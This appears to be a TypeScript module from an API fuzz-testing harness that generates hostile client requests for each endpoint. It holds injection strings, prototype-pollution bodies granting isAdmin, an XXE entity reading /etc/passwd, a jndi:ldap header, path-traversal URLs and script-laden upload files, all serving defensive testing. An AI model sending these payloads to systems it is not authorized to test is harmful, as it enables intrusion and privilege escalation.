/** Attacks of a careless or hostile client: each builds a request for a call from its contract. */
import type { SeededRandom } from '#tools/seeded-random.ts'
import { hostileSorts, hostileTexts, oddNumbers, protectedColumns } from './attack-values.ts'
import { buildRequest, fields, form, inputsFor, json, toText, validInput } from './fuzz-request.ts'
import type { FuzzRequest, Target } from './fuzz-request.ts'

type Attack = (target: Target, random: SeededRandom) => FuzzRequest

const plain = (target: Target, input: Record<string, unknown>) =>
  buildRequest(target, JSON.stringify(input), input)

const tampered = (random: SeededRandom): unknown =>
  random.pick<unknown>([
    random.whole(400),
    random.whole(60) + 1,
    ...oddNumbers,
    ...hostileTexts.slice(0, 12),
    [1, 2],
    { $ne: null },
    { id: 1 },
    null,
    '',
    '1 or 1=1',
    '00000000-0000-0000-0000-000000000000',
    ' 1 ',
    '+1',
    '1,2',
  ])

/** Replaces one value of a valid input by a value of `which`. */
const withOne =
  (which: (random: SeededRandom) => unknown): Attack =>
  (target, random) => {
    const input = validInput(target, random)
    const names = fields(target.shape)
    if (names.length) input[random.pick(names)] = which(random)
    return plain(target, input)
  }

const raw =
  (
    of: (target: Target, random: SeededRandom) => string,
    headers: Record<string, string> = json,
  ): Attack =>
  (target, random) => ({
    ...buildRequest(
      { ...target, kind: target.kind === 'get' ? 'json' : target.kind },
      of(target, random),
      {},
    ),
    headers,
  })

const hugeNumbers = [
  '1e400',
  '-1e400',
  '9007199254740993',
  '1'.repeat(300),
  '1e-400',
  '-0',
  '0.1e1',
]

export const attacks: Record<string, Attack> = {
  'valid input': (target, random) => plain(target, validInput(target, random)),
  'nearly valid input': (target, random) =>
    plain(target, random.pick(inputsFor(target).nearlyValid)),
  'mass assignment': (target, random) => {
    const extra = Object.fromEntries(
      Object.entries(protectedColumns).filter(() => random.withProbability(0.3)),
    )
    return plain(target, { ...validInput(target, random), ...extra })
  },
  'ids of others': (target, random) => {
    const input = validInput(target, random)
    for (const name of fields(target.shape))
      if (/id$|ids$|version/i.test(name))
        input[name] = name.endsWith('s')
          ? [random.whole(200), random.whole(200)]
          : random.whole(200)
    return plain(target, input)
  },
  'tampered value': withOne(tampered),
  'hostile text': withOne((random) => random.pick(hostileTexts)),
  'odd number': withOne((random) => random.pick(oddNumbers)),
  'sort and filter': (target, random) =>
    plain(target, {
      ...validInput(target, random),
      page: random.pick([1, 0, 1e9, '1']),
      size: random.pick([20, 200, 201, -5]),
      sort: random.pick(hostileSorts),
      [random.pick([...fields(target.shape), 'x'])]: random.pick<unknown>([
        ...hostileTexts,
        { like: '%' },
        [['a']],
      ]),
    }),
  form: (target, random) => {
    const input = {
      ...validInput(target, random),
      ...(random.withProbability(0.3) && protectedColumns),
    }
    const pairs = Object.entries(input).flatMap(([name, value]) =>
      (Array.isArray(value) ? value : [value]).map((v) => [
        random.withProbability(0.05) ? `${name}[]` : name,
        toText(v),
      ]),
    )
    if (pairs.length && random.withProbability(0.4))
      pairs.push([pairs[0]![0]!, toText(tampered(random))])
    return {
      ...buildRequest(target, new URLSearchParams(pairs as [string, string][]).toString(), input),
      ...(target.kind !== 'get' && target.kind !== 'stream' && { headers: form }),
    }
  },
  'JSON declared as a form': raw(
    (target, random) => JSON.stringify(validInput(target, random)),
    form,
  ),
  'a form declared as JSON': raw((target, random) =>
    new URLSearchParams(
      Object.entries(validInput(target, random)).map(([k, v]) => [k, toText(v)]),
    ).toString(),
  ),
  'duplicate keys': raw(
    (target, random) =>
      `{${fields(target.shape)
        .flatMap((name) => [`"${name}":1`, `"${name}":${random.pick(['2', 'null', '"x"', '[]'])}`])
        .join()}}`,
  ),
  prototype: raw(
    (target, random) =>
      '{"__proto__":{"rights":["sys.user.save"],"isAdmin":true},' +
      `"constructor":{"prototype":{"polluted":1}}` +
      (random.withProbability(0.5)
        ? '}'
        : `,${JSON.stringify(validInput(target, random)).slice(1, -1) || '"x":1'}}`),
  ),
  'prototype in a form': raw(
    () =>
      '__proto__[isAdmin]=true&__proto__=1&constructor.prototype.x=1&constructor[prototype][x]=1',
    form,
  ),
  'deep nesting': raw((target, random) => {
    const depth = random.pick([30, 500, 5000, 20_000])
    return (
      `{"${random.pick([...fields(target.shape), 'x'])}":${random.pick(['[', '{"a":'] as const).repeat(depth)}` +
      (random.withProbability(0.5) ? '' : ']'.repeat(depth)) +
      '}'
    )
  }),
  'deep but closed': raw((target, random) => {
    const depth = random.pick([30, 500, 3000])
    return `{"${random.pick([...fields(target.shape), 'x'])}":${'['.repeat(depth)}${']'.repeat(depth)}}`
  }),
  'huge numbers': raw(
    (target, random) =>
      `{${fields(target.shape)
        .map((name) => `"${name}":${random.pick(hugeNumbers)}`)
        .join()}}`,
  ),
  'NUL and lone surrogates': raw(
    (target, random) =>
      `{${fields(target.shape)
        .map(
          (name) =>
            `"${name}":"${random.pick(['a\\u0000b', '\\ud800', '\\udc00x', '\\ufffe', 'x\\u001b[31m', '\\u0085'])}"`,
        )
        .join()}}`,
  ),
  'invalid UTF-8': (target, random) => ({
    ...buildRequest({ ...target, kind: 'json' }, '', {}),
    body: Buffer.concat([
      Buffer.from('{"keyword":"'),
      Buffer.from(
        random.pick([
          [0xc0, 0xaf],
          [0xed, 0xa0, 0x80],
          [0xff, 0xfe],
          [0xf8, 0x88, 0x80, 0x80, 0x80],
        ]),
      ),
      Buffer.from('"}'),
    ]),
  }),
  'invalid JSON': raw((_target, random) =>
    random.pick([
      '{',
      '[]',
      'null',
      '1',
      '"x"',
      '{"a":}',
      "{'a':1}",
      '{"a":1}{"b":2}',
      '',
      ' ',
      '\u0000',
      'NaN',
      '//x',
      '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    ]),
  ),
  'another content type': (target, random) => ({
    ...buildRequest({ ...target, kind: 'json' }, JSON.stringify(validInput(target, random)), {}),
    headers: random.pick<Record<string, string>>([
      { 'content-type': 'text/plain' },
      { 'content-type': 'application/xml' },
      {},
      { 'content-type': 'application/json; charset=utf-16' },
      { 'content-type': 'application/json', 'content-encoding': 'gzip' },
      { 'content-type': 'multipart/form-data' },
      { 'content-type': 'multipart/form-data; boundary=x' },
      { 'content-type': 'x'.repeat(5000) },
      { 'content-type': 'application/jsonp' },
      { 'content-type': 'application/json, text/html' },
    ]),
  }),
  'many entries': raw(
    (target, random) =>
      `{${fields(target.shape)
        .map(
          (name) =>
            `"${name}":[${Array.from({ length: random.pick([300, 20_000]) }, (_, n) => n).join()}]`,
        )
        .slice(0, 3)
        .join()}}`,
  ),
  'long text': withOne((random) => 'x'.repeat(random.pick([1000, 100_000, 900_000]))),
  'odd URL': (target, random) => {
    const url = `/api/${target.path}/${target.name}`
    return {
      method: random.pick(['GET', 'POST', 'PUT', 'DELETE', 'HEAD', 'OPTIONS', 'PATCH']),
      headers: json,
      url: random.pick([
        `${url}/`,
        `${url}%00`,
        `${url}/..%2f..%2fsys%2fuser%2flist`,
        url.toUpperCase(),
        url.replaceAll('/', '//'),
        `${url};x=1`,
        `${url}?${'a=1&'.repeat(500)}`,
        `${url}%2e%2e`,
        `/api/%2e%2e/${target.path}`,
        `${url}?__proto__[x]=1`,
        `${url}?id=1&id=2&access_token=x`,
        `${url}%c0%ae`,
        `${url}%`,
        `${url}${'/x'.repeat(400)}`,
      ]),
    }
  },
  'odd headers': (target, random) => {
    const request = plain(target, validInput(target, random))
    return {
      ...request,
      headers: {
        ...request.headers,
        ...random.pick<Record<string, string>>([
          { 'x-forwarded-for': "127.0.0.1' or 1=1 --" },
          { 'x-forwarded-for': 'a'.repeat(4000) },
          { 'accept-language': 'x'.repeat(4000) },
          { 'accept-language': 'zh;q=NaN,en;q=-1,*;q=9' },
          { 'user-agent': 'x'.repeat(6000) },
          { 'user-agent': '${jndi:ldap://x/a}' },
          { 'x-http-method-override': 'DELETE' },
          { 'x-original-url': '/api/sys/user/list' },
          { range: 'bytes=0-0,-1' },
          { expect: '100-continue' },
          { 'if-none-match': '*' },
          { accept: 'text/html' },
        ]),
      },
    }
  },
  multipart: (target, random) => {
    const body = new FormData()
    for (const name of random.withProbability(0.5) ? fields(target.shape) : ['x', '__proto__'])
      body.append(name, random.pick(hostileTexts))
    const bytes = Buffer.from(
      random.pick([
        '',
        'GIF89a<script>alert(1)</script>',
        '%PDF-1.7\n1 0 obj<</JavaScript 1>>',
        'PK\u0003\u0004',
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        'MZ',
        '\u0000'.repeat(1000),
      ]),
      'latin1',
    )
    for (let n = random.pick([0, 1, 1, 1, 2]); n > 0; n--)
      body.append(
        random.pick(['file', 'x', '__proto__']),
        new Blob([bytes], {
          type: random.pick(['image/png', 'text/html', 'application/pdf', 'x/y', '']),
        }),
        random.pick([
          'a.png',
          '../../a.pdf',
          'a\u0000.png',
          '报告 "1".docx',
          '.htaccess',
          'con.txt',
          `${'x'.repeat(400)}.xlsx`,
          'a.pdf.exe',
          '',
        ]),
      )
    return { method: 'POST', url: `/api/${target.path}/${target.name}`, headers: {}, body }
  },
}

/** Bodies above every limit. Used rarely, because they are expensive. */
export const oversized: Attack = raw(
  (_target, random) => `{"x":"${'x'.repeat(random.pick([33, 40]) * 1_048_576)}"}`,
)
